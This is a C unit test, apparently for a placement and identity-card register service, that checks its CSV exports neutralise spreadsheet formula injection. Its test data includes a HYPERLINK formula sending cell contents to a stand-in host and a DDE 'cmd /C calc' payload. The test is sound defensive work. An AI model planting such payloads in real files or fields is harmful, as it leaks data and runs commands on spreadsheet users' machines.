/* Spreadsheet formula injection (issue 20): names, employers and positions
 * that organisations and the legacy register typed as formulas (=, +, -, @)
 * come out of every CSV export neutralised (a leading apostrophe), as a real
 * CSV reader (Python's csv module) sees them: no cell an officer's
 * spreadsheet would run.  The text itself is kept. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "api/api_client.h"

static struct daemon d;
static char officer[64];

static const char *const hostile[] = {
	"=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"klik\")",
	"+SUM(1+1)",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(A1:A9)",
};

static int setup(void **state)
{
	(void)state;
	return daemon_start(&d, NULL) < 0 || !officer_ready(&d, officer) ? -1 : 0;
}

static int teardown(void **state)
{
	(void)state;
	return daemon_stop(&d) == 0 ? 0 : -1;
}

/* Cells of a CSV that a spreadsheet would run, counted by Python's csv
 * reader; the apostrophe-led cells holding each hostile text, too. */
static void no_formula_cells(const struct response *r, const char *what)
{
	static const char script[] =
		"python3 -c \"import csv,sys; rows=list(csv.reader(open(sys.argv[1], encoding='utf-8')));"
		"cells=[c for row in rows for c in row];"
		"print(sum(1 for c in cells if c[:1] in ('=','+','-','@','\\t','\\r')),"
		"sum(1 for c in cells if c[:1]==chr(39) and c[1:2] in ('=','+','-','@')))\"";
	char *out = run_on_bytes(script, r->body, r->len, ".csv");
	assert_non_null(out);
	int live = -1, neutral = -1;
	if (sscanf(out, "%d %d", &live, &neutral) != 2)
		fail_msg("%s: the CSV reader said %s", what, out);
	if (live != 0)
		fail_msg("%s: %d cells a spreadsheet would run", what, live);
	if (neutral < 1)
		fail_msg("%s: no hostile text found neutralised (%d)", what, neutral);
	free(out);
}

static void csv_exports_neutralise_formulas(void **state)
{
	(void)state;
	struct response r;
	/* The legacy register, with people whose names are formulas. */
	char csv[4096];
	size_t n = (size_t)snprintf(csv, sizeof csv,
	                            "nik,full_name,birth_place,birth_date,gender,address,"
	                            "kecamatan_code,kelurahan_code,education_level,card_number,issued_on\n");
	for (int i = 0; i < 4; i++) {
		/* CSV quoting: the register's own quotes doubled. */
		char name[256], *o = name;
		for (const char *p = hostile[i]; *p && o < name + sizeof name - 2; p++) {
			if (*p == '"')
				*o++ = '"';
			*o++ = *p;
		}
		*o = '\0';
		n += (size_t)snprintf(csv + n, sizeof csv - n,
		                      "327701010190%04d,\"%s\",Cimahi,1990-01-01,M,Jl. 1,32.77.01,"
		                      "32.77.01.1001,sma,3277 7000%02d 1,2025-01-0%d\n",
		                      i + 1, name, i, i + 1);
	}
	assert_int_equal(http_call_bytes(&d, "POST", "/v1/card-imports", officer, csv, n, "text/csv", &r), 0);
	if (r.status != 200)
		fail_msg("import: %ld %s", r.status, r.body);
	response_free(&r);
	/* Placements whose employer and position are formulas. */
	json_t *batch = json_array();
	for (int i = 0; i < 4; i++) {
		char nik[17];
		snprintf(nik, sizeof nik, "327701010190%04u", (unsigned)(i + 1) % 10000u);
		json_array_append_new(batch,
		                      json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s}", "nik", nik, "employer_name",
		                                hostile[i], "employer_type", "private_company", "position",
		                                hostile[(i + 1) % 4], "location_kind", "kabkota", "location_code",
		                                "32.77", "start_date", "2025-06-01", "channel", "other"));
	}
	json_t *request = json_pack("{s:o}", "placements", batch);
	char *body = json_dumps(request, JSON_COMPACT);
	json_decref(request);
	assert_int_equal(http_call(&d, "POST", "/v1/placements/batch", officer, body, NULL, &r), 0);
	free(body);
	if (r.status != 200)
		fail_msg("placements: %ld %s", r.status, r.body);
	response_free(&r);

	/* Every CSV export that carries typed text. */
	static const char *const exports[] = {"/v1/placements?format=csv", "/v1/cards?format=csv",
	                                      "/v1/cards?format=csv&state=placed"};
	for (size_t i = 0; i < sizeof exports / sizeof exports[0]; i++) {
		assert_int_equal(http_call(&d, "GET", exports[i], officer, NULL, NULL, &r), 0);
		assert_int_equal(r.status, 200);
		no_formula_cells(&r, exports[i]);
		/* The text is kept, behind the apostrophe. */
		assert_non_null(strstr(r.body, "'@SUM(A1:A9)"));
		response_free(&r);
	}
	/* The JSON is the data as typed: neutralising is for spreadsheets only. */
	assert_int_equal(http_call(&d, "GET", "/v1/placements", officer, NULL, NULL, &r), 0);
	assert_non_null(strstr(r.body, "\"employer_name\":\"@SUM(A1:A9)\""));
	response_free(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(csv_exports_neutralise_formulas),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
